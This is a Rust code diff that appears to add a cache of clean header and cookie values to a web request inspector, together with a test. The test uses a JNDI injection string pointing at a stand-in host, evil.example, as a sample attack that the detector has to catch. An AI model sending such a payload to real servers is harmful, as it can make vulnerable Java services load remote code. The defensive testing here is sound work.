@@ -72,6 +72,61 @@ pub struct Inspector<'s> {
     report: Report,
     budget: usize,
     hits: Vec<Hit>,
+    seen: Option<&'s mut CleanValues>,
+}
+
+/// Values recently found clean (no detector had anything to say, at any paranoia level), so the
+/// next request that repeats them is not inspected again: a client sends the same User-Agent,
+/// Referer and cookies on every call, and a browser's User-Agent alone costs more to inspect than
+/// the rest of a typical GET. Keyed by a keyed hash (std's `RandomState`, random per process) of
+/// place, encoding and value, so a client cannot craft an attack that collides with a cached
+/// clean value. Only headers, cookies and names go in: they repeat; bodies rarely do.
+pub struct CleanValues {
+    hashes: std::collections::HashSet<u64>,
+    state: std::hash::RandomState,
+    capacity: usize,
+}
+
+impl CleanValues {
+    pub fn new(capacity: usize) -> CleanValues {
+        CleanValues {
+            hashes: std::collections::HashSet::with_capacity(capacity),
+            state: std::hash::RandomState::new(),
+            capacity,
+        }
+    }
+
+    fn key(&self, place: Place, encoding: Encoding, raw: &str) -> u64 {
+        use std::hash::{BuildHasher, Hash, Hasher};
+        let mut h = self.state.build_hasher();
+        (place as u8).hash(&mut h);
+        (encoding as u8).hash(&mut h);
+        raw.hash(&mut h);
+        h.finish()
+    }
+
+    fn insert(&mut self, key: u64) {
+        if self.hashes.len() >= self.capacity {
+            // Crude but bounded: start over rather than track recency.
+            self.hashes.clear();
+        }
+        self.hashes.insert(key);
+    }
+
+    pub fn len(&self) -> usize {
+        self.hashes.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.hashes.is_empty()
+    }
+}
+
+fn repeats(place: Place) -> bool {
+    matches!(
+        place,
+        Place::Header | Place::Cookie | Place::CookieName | Place::QueryName | Place::JsonKey
+    )
 }
 
 /// Runs every detector that has something to look at on one value.
@@ -160,7 +215,14 @@ impl<'s> Inspector<'s> {
             report: Report::default(),
             budget,
             hits: Vec::new(),
+            seen: None,
         }
+    }
+
+    /// Remembers clean header, cookie and name values across requests (see [`CleanValues`]).
+    pub fn with_clean_values(mut self, seen: &'s mut CleanValues) -> Inspector<'s> {
+        self.seen = Some(seen);
+        self
     }
 
     /// Inspects one value. `location` is only built when something is found.
@@ -224,10 +286,23 @@ impl<'s> Inspector<'s> {
         {
             return;
         }
+        let cache_key = match &self.seen {
+            Some(seen) if repeats(place) => {
+                let k = seen.key(place, encoding, raw);
+                if seen.hashes.contains(&k) {
+                    return;
+                }
+                Some(k)
+            }
+            _ => None,
+        };
         let v = normalize(raw, encoding);
         self.hits.clear();
         detect(&v, place, &mut self.hits);
         if self.hits.is_empty() {
+            if let (Some(k), Some(seen)) = (cache_key, self.seen.as_deref_mut()) {
+                seen.insert(k);
+            }
             return;
         }
         let pl = self.settings.paranoia;
@@ -617,6 +692,28 @@ mod tests {
         let mut i = Inspector::new(&settings, 1 << 16);
         i.params("session=7&sessionid_hint=x&jsessionid=", false);
         assert_eq!(i.finish().score, 0, "other names, or no value, pass");
+    }
+
+    #[test]
+    fn clean_values_are_remembered_and_attacks_never() {
+        let settings = Settings::default();
+        let mut seen = CleanValues::new(2);
+        let ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)";
+        let attack = "${jndi:ldap://evil.example/a}";
+        for _ in 0..2 {
+            let mut i = Inspector::new(&settings, 1 << 16).with_clean_values(&mut seen);
+            i.header("user-agent", ua);
+            i.header("x-note", attack);
+            let r = i.finish();
+            assert!(r.score >= 5, "an attack is found every time: {r:?}");
+        }
+        assert_eq!(seen.len(), 1, "only the clean value is remembered");
+        // Full: starts over rather than grow.
+        let mut i = Inspector::new(&settings, 1 << 16).with_clean_values(&mut seen);
+        i.header("a", "x (1)");
+        i.header("b", "y (2)");
+        let _ = i.finish();
+        assert!(seen.len() <= 2);
     }
 
     proptest::proptest! {
